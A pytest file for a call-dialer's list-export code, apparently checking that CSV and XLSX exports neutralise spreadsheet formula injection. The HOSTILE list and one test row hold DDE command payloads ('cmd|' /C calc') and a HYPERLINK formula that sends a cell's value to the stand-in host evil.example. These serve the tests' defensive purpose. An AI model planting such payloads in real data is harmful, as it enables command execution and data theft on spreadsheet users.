# ruff: noqa: RUF001
"""Exports must not turn hostile list cells into spreadsheet formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dialer.lists import (
    ImportedContact,
    ImportRules,
    ResultRow,
    import_contacts,
    neutralise_cell,
    write_corporate_queue,
    write_csv,
    write_results,
    write_xlsx,
)
from dialer.lists.export import CORPORATE_HEADER, export_format
from dialer.lists.filters import CorporateRules
from tests.lists.helpers import write_csv as write_list

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_apostrophe(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ООО Ромашка", "a=b", " =1", "", None, 5, -5, 1.5, True, dt.date(2026, 1, 1)])
def test_safe_values_untouched(value: object) -> None:
    assert neutralise_cell(value) == value  # type: ignore[arg-type]


def test_csv_export_neutralises(tmp_path: Path) -> None:
    p = tmp_path / "out.csv"
    n = write_csv(p, ["Компания", "Число"], [[v, -5] for v in HOSTILE])
    assert n == len(HOSTILE)
    raw = p.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    with p.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows[0] == ["Компания", "Число"]
    for row, original in zip(rows[1:], HOSTILE, strict=True):
        assert row == ["'" + original, "-5"]


def test_xlsx_export_writes_exact_text_never_formulas(tmp_path: Path) -> None:
    p = tmp_path / "out.xlsx"
    texts = [*HOSTILE, "+79161234567", "ООО Ромашка", "bad\x01char"]
    write_xlsx(p, ["Value", "When"], [[v, dt.date(2026, 3, 1)] for v in texts])
    ws = load_workbook(p).active
    assert ws is not None
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in cells)  # string cells: nothing is a formula
    # the exact text, no apostrophe (XML turns a stored CR into LF on reading)
    assert [c.value for c in cells[:-1]] == [t.replace("\r", "\n") for t in texts[:-1]]
    assert cells[-1].value == "bad\ufffdchar"
    # risky text carries Excel's quotePrefix style (text typed after an apostrophe); plain text does not
    assert [c.quotePrefix for c in cells] == [True] * (len(HOSTILE) + 1) + [False, False]
    assert ws.cell(2, 2).value == dt.datetime(2026, 3, 1)
    with zipfile.ZipFile(p) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet and "'=" not in sheet
    assert sheet.count('t="inlineStr"') == 2 + len(texts)  # the header's two cells, and every text cell


def test_corporate_queue_export_from_a_hostile_list(tmp_path: Path) -> None:
    src = write_list(
        tmp_path / "in.csv",
        [
            ["Телефон", "Компания", "Численность", "Холдинг"],
            ["84951234567", "=cmd|' /C calc'!A0", "5000", ""],
            ["84951234568", "Обычная", "10", "@Холдинг"],
            ["84951234569", "Мелкая", "10", ""],
        ],
        encoding="cp1251",
        delimiter=";",
    )
    rules = ImportRules(corporate=CorporateRules(headcount_threshold=1000))
    items = [i for i in import_contacts(src, rules) if isinstance(i, ImportedContact)]
    out_csv, out_xlsx = tmp_path / "corp.csv", tmp_path / "corp.xlsx"
    assert write_corporate_queue(out_csv, items) == 2
    assert write_corporate_queue(out_xlsx, items) == 2
    with out_csv.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert tuple(rows[0]) == CORPORATE_HEADER
    assert rows[1][1] == "'+74951234567" and rows[1][3] == "'=cmd|' /C calc'!A0"
    reason = CORPORATE_HEADER.index("Причина / Reason")
    assert "threshold" in rows[1][reason] and rows[2][6] == "'@Холдинг"
    assert rows[1][CORPORATE_HEADER.index("Источник часового пояса / Time zone source")] == "phone"
    ws = load_workbook(out_xlsx).active
    assert ws is not None and ws.title == "Corporate"
    assert ws.cell(2, 4).value == "=cmd|' /C calc'!A0" and ws.cell(2, 4).data_type == "s"
    assert ws.cell(2, 2).value == "+74951234567" and ws.cell(2, 2).quotePrefix
    assert ws.cell(2, 8).value == 5000


def test_results_export(tmp_path: Path) -> None:
    when = dt.datetime(2026, 3, 2, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=3)))
    rows = [
        ResultRow(
            phone="+74951234567",
            company="-Ромашка",
            attempts=2,
            last_attempt_at=when,
            last_outcome="connected",
            disposition="callback",
            notes="=1+1",
            next_action_at=when,
        )
    ]
    write_results(tmp_path / "r.csv", rows)
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert "'-Ромашка" in text and "'=1+1" in text and "2026-03-02 06:30:00" in text
    write_results(tmp_path / "r.xlsx", rows)
    ws = load_workbook(tmp_path / "r.xlsx").active
    assert ws is not None and ws.cell(2, 7).value == dt.datetime(2026, 3, 2, 6, 30)


def test_export_format() -> None:
    assert export_format("a.XLSX") == "xlsx" and export_format("a.csv") == "csv"
    with pytest.raises(ValueError):
        export_format("a.pdf")
